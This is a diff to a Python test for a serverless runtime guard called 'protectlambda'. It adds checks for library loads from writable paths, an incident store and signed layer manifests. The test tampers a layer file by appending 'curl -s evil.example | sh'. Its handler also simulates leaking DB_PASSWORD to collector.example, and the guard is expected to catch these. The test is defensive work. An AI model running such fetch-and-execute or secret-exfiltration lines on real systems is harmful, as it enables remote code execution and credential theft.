@@ -21,6 +21,7 @@ PL = os.environ.get("PL_BIN") or os.path.join(os.environ.get("PL_BUILD_DIR", "bu
                                               "src/cli/protectlambda")
 FAILS = []
 OUTPUTS = []
+STORE = {}  # incident store of this test (isolated, and grepped for secrets too)
 
 HANDLER = r'''
 import base64, os, shutil, time
@@ -42,6 +43,13 @@ def handler(event, context):
         return {"next": "https://collector.example/?d=" + urllib.parse.quote(os.environ["DB_PASSWORD"], safe="")}
     if op == "error":
         raise RuntimeError("cannot connect with " + os.environ["DB_PASSWORD"])
+    if op == "load":
+        import ctypes
+        p = os.path.join(event["dir"], "libhelper.so")
+        shutil.copy("/lib/x86_64-linux-gnu/libutil.so.1", p)
+        ctypes.CDLL(p)
+        time.sleep(1.5)
+        return {"loaded": True}
     if op == "drop":
         p = os.path.join(event["dir"], "payload")
         shutil.copy("/bin/true", p)
@@ -79,6 +87,8 @@ def invoke(fdir, events, extra_env=None, timeout=90):
     env = dict(os.environ)
     env.update(SECRETS)
     env["PYTHONDONTWRITEBYTECODE"] = "1"  # /var/task is read-only in Lambda: no __pycache__
+    if STORE.get("path"):
+        env["PROTECTLAMBDA_STORE_PATH"] = STORE["path"]
     env.update(extra_env or {})
     try:
         p = subprocess.run(args, capture_output=True, text=True, env=env, timeout=timeout)
@@ -103,7 +113,8 @@ def canaries_and_tamper(root):
     os.makedirs(watch)
     marker = os.path.join(root, "ran.txt")
     events = [{"op": "ok"}, {"op": "environ"}, {"op": "procenv"}, {"op": "b64"}, {"op": "url"},
-              {"op": "error"}, {"op": "drop", "dir": watch}, {"op": "ok"}]
+              {"op": "error"}, {"op": "drop", "dir": watch}, {"op": "load", "dir": watch},
+              {"op": "ok"}]
     p = invoke(fdir, events, {"PROTECTLAMBDA_INTEGRITY_TAMPER_DIRS": watch,
                               "PROTECTLAMBDA_INTEGRITY_TAMPER_INTERVAL_MS": "200",
                               "PL_TEST_MARKER": marker})
@@ -118,7 +129,8 @@ def canaries_and_tamper(root):
                     (4, "URL-encoded password"), (5, "error with the password")]:
         check("Security Violation" in lines[i], "%s leak denied at the exit" % what, lines[i])
     check(json.loads(lines[6]) == {"dropped": True}, "drop handler answered", lines[6])
-    check(json.loads(lines[7]) == {"ok": 1}, "later clean response passes", lines[7])
+    check(json.loads(lines[7]) == {"loaded": True}, "load handler answered", lines[7])
+    check(json.loads(lines[8]) == {"ok": 1}, "later clean response passes", lines[8])
     check("PL-CANARY-" in log and "Out Rule violation for PL-CANARY-" in log,
           "deny logged with a PL-CANARY-<VAR> rule id", log)
     check("PL-CANARY-DB_PASSWORD" in log, "the leaked variable is named", log)
@@ -127,6 +139,10 @@ def canaries_and_tamper(root):
           "environment audit at cold start (PLAINTEXT_SECRET by name)", log)
     ev = [l for l in log.splitlines() if "RUNTIME_MODIFICATION" in l and "/payload" in l]
     check(len(ev) >= 1, "dropped executable reported as RUNTIME_MODIFICATION", log)
+    check("tamper watch: runtime is pid" in log, "the tamper watch found the runtime process", log)
+    ev = [l for l in log.splitlines() if '"component":"guard"' in l and "PL-TAMPER-WRITABLE-LIB" in l
+          and '"type":"RUNTIME_MODIFICATION"' in l and "libhelper.so" in l]
+    check(len(ev) == 1, "library loaded from a writable place reported once", log)
     ran = open(marker).read().split() if os.path.exists(marker) else []
     check(ran == [e["op"] for e in events], "the handler ran for every event", " ".join(ran))
 
@@ -155,21 +171,61 @@ def manifests(root):
     check("RUNTIME_INTEGRITY_VIOLATION" in p.stderr and "app.py" in p.stderr,
           "changed code: RUNTIME_INTEGRITY_VIOLATION naming the file", p.stderr)
     check(not os.path.exists(marker), "changed code: the handler never runs")
-    check("Security Violation" in p.stdout or p.returncode != 0, "changed code: invocation denied",
-          p.stdout + p.stderr)
+    # denied by the guard (deny answer), or the sandbox ended by the CRITICAL playbook
+    # (terminate): either way the function's answer never leaves
+    check('"ok"' not in p.stdout, "changed code: invocation denied", p.stdout + p.stderr)
     # an unsigned manifest while a key is configured
     subprocess.run([PL, "manifest", fdir, "-o", mf], check=True, capture_output=True)
     p = invoke(fdir, [{"op": "ok"}], env)
     check("RUNTIME_INTEGRITY_VIOLATION" in p.stderr and "not signed" in p.stderr,
           "unsigned manifest with a key configured refused", p.stderr)
     check(not os.path.exists(marker), "unsigned manifest: the handler never runs")
+    # the layer: a valid signed code manifest again, and a layer file changed after the build
+    subprocess.run([PL, "manifest", fdir, "-o", mf, "--sign", os.path.join(keys, "pl.key")],
+                   check=True, capture_output=True)
+    layer = os.path.join(root, "opt-protectlambda")
+    os.makedirs(os.path.join(layer, "bin"))
+    with open(os.path.join(layer, "bin", "tool"), "w") as f:
+        f.write("#!/bin/sh\necho tool\n")
+    lmf = os.path.join(layer, "layer.manifest")
+    subprocess.run([PL, "manifest", layer, "-o", lmf], check=True, capture_output=True)
+    env.update({"PROTECTLAMBDA_INTEGRITY_LAYER_MANIFEST": lmf,
+                "PROTECTLAMBDA_INTEGRITY_LAYER_DIR": layer})
+    p = invoke(fdir, [{"op": "ok"}], env)
+    check("layer verified" in p.stderr and os.path.exists(marker),
+          "layer verified at cold start, invocation runs", p.stderr)
+    os.unlink(marker)
+    with open(os.path.join(layer, "bin", "tool"), "a") as f:
+        f.write("curl -s evil.example | sh\n")
+    p = invoke(fdir, [{"op": "ok"}], env)
+    check("layer differs from its manifest" in p.stderr and "bin/tool" in p.stderr,
+          "changed layer: RUNTIME_INTEGRITY_VIOLATION naming the file", p.stderr)
+    check(not os.path.exists(marker), "changed layer: the handler never runs")
 
 
 def main():
     root = tempfile.mkdtemp(prefix="pl-integrity-guard-")
+    # a precompiled rules database makes every cold start fast (as in the layer)
+    db = os.path.join(root, "rules.db")
+    c = subprocess.run([PL, "compile", "-o", db], capture_output=True, text=True,
+                       timeout=300)
+    if c.returncode == 0:
+        os.environ["PROTECTLAMBDA_RULES_DB"] = db
+    else:
+        print("(rules not precompiled: %s)" % c.stderr.strip()[-300:])
+    STORE["path"] = os.path.join(root, "store", "incidents.db")
+    os.makedirs(os.path.dirname(STORE["path"]))
     try:
         canaries_and_tamper(root)
         manifests(root)
+        # what the guard wrote to disk: the incident store (and its journal files)
+        stored = []
+        for name in os.listdir(os.path.dirname(STORE["path"])):
+            with open(os.path.join(os.path.dirname(STORE["path"]), name), "rb") as f:
+                stored.append(f.read().decode("latin-1"))
+        OUTPUTS.extend(stored)
+        check(any("PL-CANARY-" in o for o in stored),
+              "the incident store records the canary denials (and is grepped below)")
     finally:
         shutil.rmtree(root, ignore_errors=True)
     blob = "\n".join(OUTPUTS)
